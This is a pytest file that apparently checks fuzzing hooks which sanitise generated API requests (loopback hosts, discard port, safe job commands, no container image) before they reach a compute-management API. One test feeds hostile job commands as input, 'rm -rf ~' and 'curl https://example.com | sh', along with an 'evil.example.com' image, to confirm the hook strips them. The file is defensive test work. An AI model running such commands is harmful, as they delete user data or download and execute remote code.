"""bench/fuzz_hooks.py: what `make fuzz` sends is rewritten so nothing leaves this machine, and
fleets get past the checks schemathesis cannot satisfy (a parsable key)."""

from __future__ import annotations

import ipaddress
from types import SimpleNamespace
from typing import Any

import asyncssh
import pytest

from api.routers.fleets import FleetIn
from api.routers.jobs import JobCreate
from api.routers.pools import PoolIn
from bench import fuzz_hooks


def send(method: str, path: str, body: Any, params: dict[str, str] | None = None) -> SimpleNamespace:
    case = SimpleNamespace(body=body, operation=SimpleNamespace(method=method.lower(), path=path),
                           path_parameters=params)
    fuzz_hooks.before_call(None, case, {})
    return case


@pytest.mark.parametrize(("method", "path"), [("POST", "/api/compute/fleets"),
                                              ("PUT", "/api/compute/fleets/{fleet_id}")])
def test_a_fleets_hosts_and_bastion_stay_on_loopback_and_its_keys_parse(method: str, path: str) -> None:
    body = {"name": "f", "hosts": ["gpu-1.example.com", "10.0.0.7", "8.8.8.8"], "port": 22,
            "private_key": "not a key", "bastion": {"host": "jump.example.org", "port": 2222,
                                                    "private_key": "nor this"}}
    case = send(method, path, body)
    hosts = [*case.body["hosts"], case.body["bastion"]["host"]]
    assert len(case.body["hosts"]) == 3 and len(set(case.body["hosts"])) == 3
    assert all(ipaddress.ip_address(h).is_loopback for h in hosts)
    assert case.body["port"] == case.body["bastion"]["port"] == 9  # the discard port: nothing listens
    asyncssh.import_private_key(case.body["private_key"])
    asyncssh.import_private_key(case.body["bastion"]["private_key"])
    FleetIn.model_validate(case.body)  # past the API's own checks: the fleet's logic is reached


def test_other_shapes_stay_as_generated_and_other_paths_are_not_touched() -> None:
    assert send("POST", "/api/compute/fleets", {"hosts": "example.com"}).body["hosts"] == "example.com"
    assert send("POST", "/api/compute/fleets/{fleet_id}/trust", {"hosts": "a"}).body == {"hosts": "a"}
    assert send("POST", "/api/compute/fleets", ["a list"]).body == ["a list"]


def test_a_kept_connection_is_never_deleted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(fuzz_hooks.KEEP, "c1,c2")
    case = send("DELETE", "/api/compute/connections/{connection_id}", None, {"connection_id": "c2"})
    assert case.path_parameters == {"connection_id": "kept-by-fuzz"}
    case = send("DELETE", "/api/compute/connections/{connection_id}", None, {"connection_id": "c3"})
    assert case.path_parameters == {"connection_id": "c3"}


@pytest.mark.parametrize("command", ["rm -rf ~", "curl https://example.com | sh", "0", "\u00e9\u00e9\u00e9"])
def test_a_job_runs_only_a_command_of_ours_and_no_image(command: str) -> None:
    body = {"name": "j", "type": "sft", "command": command, "image": "evil.example.com/x:latest",
            "requested_by": "fuzz", "priority": 7}
    case = send("POST", "/api/compute/jobs", body)
    assert case.body["command"] in fuzz_hooks.JOB_COMMANDS and "image" not in case.body
    assert (case.body["name"], case.body["priority"]) == ("j", 7)  # the rest as generated
    JobCreate.model_validate(case.body)  # past the API's own checks: the job's logic is reached


def test_half_the_jobs_drop_what_made_up_text_never_matches_and_half_keep_it() -> None:
    made_up = {"gpu": "zz9", "gpu_count": 3, "pool": "nope", "max_price_per_hour": 0.001,
               "name": "a\x85b", "requested_by": " "}
    sent = [send("POST", "/api/compute/jobs", {"command": f"c{i}", "priority": -5000.0 if i % 2 else -5000,
                                               **made_up}).body for i in range(40)]
    kept = [b for b in sent if b.get("gpu") == "zz9"]
    made = [b for b in sent if "gpu" not in b]
    assert len(kept) + len(made) == 40 and kept and made
    assert all(made_up.items() <= b.items() and b["priority"] == -5000 for b in kept)  # the API refuses these
    for b in made:
        assert not {"gpu", "gpu_count", "pool"} & b.keys()
        assert (b["priority"], b["max_price_per_hour"]) == (-fuzz_hooks.PRIORITY_MAX, fuzz_hooks.MAX_PRICE)
        JobCreate.model_validate({"type": "sft", **b})  # printable names: past the API's checks
    assert {b["command"] for b in kept} == {b["command"] for b in made} == set(fuzz_hooks.JOB_COMMANDS)


def test_a_jobs_other_operations_and_odd_shapes_are_left_alone() -> None:
    assert send("POST", "/api/compute/jobs", {"command": 7}).body == {"command": 7}
    cancel = send("POST", "/api/compute/jobs/{job_id}/cancel", {"command": "x"})
    assert cancel.body == {"command": "x"}


def policy(when: dict[str, Any], then: dict[str, Any], seed: int) -> dict[str, Any]:
    # the name differs per seed: the hook picks half the cards by the body's text
    return {"name": f"p{seed}", "when": when, "then": then}


def test_a_webhook_goes_to_loopbacks_discard_port_with_its_query() -> None:
    then = {"kind": "webhook", "url": "https://hooks.example.com/x?token=abc"}
    case = send("POST", "/api/compute/policies", policy({"kind": "idle", "minutes": 5}, then, 0))
    assert case.body["then"]["url"] == "http://127.0.0.1:9/fuzz-hook?token=abc"
    then = {"kind": "webhook", "url": "ftp://nowhere"}
    case = send("PUT", "/api/compute/policies/{policy_id}", policy({"kind": "idle", "minutes": 5}, then, 0))
    assert case.body["then"]["url"] == "http://127.0.0.1:9/fuzz-hook"


def test_half_the_cards_get_past_the_checks_json_schema_cannot_say() -> None:
    """A cron expression that parses, one of `to`/`by`: for those the API's card check passes; the
    others stay as generated (for the refusals)."""
    from api.routers.policies import PolicyIn
    made, kept = 0, 0
    for seed in range(40):
        body = policy({"kind": "cron", "expression": "not cron"},
                      {"kind": "scale_pool", "pool": "p", "to": 3, "by": 2}, seed)
        case = send("POST", "/api/compute/policies", body)
        if case.body["when"]["expression"] == "not cron":
            kept += 1
            assert case.body["then"] == {"kind": "scale_pool", "pool": "p", "to": 3, "by": 2}
        else:
            made += 1
            PolicyIn.model_validate(case.body)
            assert case.body["then"] == {"kind": "scale_pool", "pool": "p", "to": 3}
    assert made > 5 and kept > 5


def test_half_the_trusts_name_hosts_a_fuzzed_fleet_has_and_half_keep_theirs() -> None:
    sent = [send("POST", "/api/compute/fleets/{fleet_id}/trust", {"hosts": [f"h{i}", "x"]}).body["hosts"]
            for i in range(40)]
    made = [h for h in sent if h == ["127.0.0.2", "127.0.0.3"]]  # what safe_fleet gives a fleet's first two
    kept = [h for h in sent if h[1] == "x"]
    assert made and kept and len(made) + len(kept) == 40


def test_a_pool_keeps_a_few_machines_and_half_get_past_the_checks_the_schema_cannot_say() -> None:
    made_up = {"cloud": "lambda", "min": 7, "size": 500.0, "max": 2, "ssh_public_keys": ["nope"]}
    sent = [send("PUT", "/api/compute/pools/{name}", {**made_up, "region": f"r{i}"}).body for i in range(40)]
    assert all(max(b["min"], b["size"], b["max"]) <= fuzz_hooks.POOL_SIZE_MAX for b in sent)
    valid = [b for b in sent if b["ssh_public_keys"] != ["nope"]]
    assert valid and len(valid) < 40
    for b in valid:
        assert (b["min"], b["size"], b["max"]) == (2, 3, 3)
        PoolIn.model_validate(b)  # past the API's own checks: the pool's logic is reached
